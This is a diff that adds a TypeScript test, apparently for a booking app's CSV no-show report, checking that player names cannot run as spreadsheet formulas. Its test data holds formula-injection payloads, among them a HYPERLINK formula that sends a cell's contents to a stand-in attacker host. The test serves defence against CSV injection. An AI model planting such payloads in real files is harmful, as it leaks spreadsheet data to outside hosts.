@@ -213,6 +213,42 @@ test('the same numbers as CSV, by ?format=csv or Accept: text/csv', async () => 
   expect(byAccept.text).toContain('Пётр Неявкин;' + noShower + ';1;0');
 });
 
+/** The cells of a `;` CSV as a spreadsheet reads them (RFC 4180 quoting, CRLF rows). */
+function spreadsheetCells(text: string): string[][] {
+  const rows: string[][] = [[]];
+  const pattern = /("(?:[^"]|"")*"|[^;\r\n]*)(;|\r\n|$)/g;
+  for (const [, raw = '', end] of text.replace(/^\uFEFF/, '').matchAll(pattern)) {
+    rows.at(-1)!.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
+    if (end === '\r\n') rows.push([]);
+    if (end === '') break;
+  }
+  return rows.filter((row) => row.length > 1 || row[0] !== '');
+}
+
+test("a player's name never runs as a formula in the CSV: it starts with ', the figures stay numbers", async () => {
+  const [one] = courts as [number];
+  const names = ['=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', '+SUM(1;2)', '@SUM(1+1)', '-2+3', '\t=1+1'];
+  const ids: number[] = [];
+  for (const [index, name] of names.entries()) {
+    const id = (await insertUser(api, { name })).id;
+    ids.push(id);
+    await game(id, one, msk('2027-10-06', 8 + index), { noShow: true });
+  }
+  const response = await q('no-shows?from=2027-10-04&to=2027-10-10&format=csv');
+  expect(response.status).toBe(200);
+  // The players' table (name, id, no-shows, late cancellations), after the weeks' one.
+  const players = spreadsheetCells(response.text).filter((row) => row.length === 4 && ids.includes(Number(row[1])));
+  expect(players.map(([name, id, noShows, late]) => [name, Number(id), noShows, late])).toEqual(
+    names.map((name, index) => [`'${name}`, ids[index], '1', '0']),
+  );
+  // As the file's own text: `+SUM(1;2)` is one quoted cell, its `;` no separator.
+  expect(response.text).toContain(`"'+SUM(1;2)";${ids[1]};1;0\r\n`);
+  // No cell of the file starts a formula; a figure is a number.
+  for (const cell of spreadsheetCells(response.text).flat()) {
+    expect(/^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell)).toBe(false);
+  }
+});
+
 test.each([
   ['from=2027-09-05&to=2027-08-30', 'Начало периода позже его конца'],
   ['from=2026-01-01&to=2027-01-02', 'Период не может быть длиннее 366 дней'],
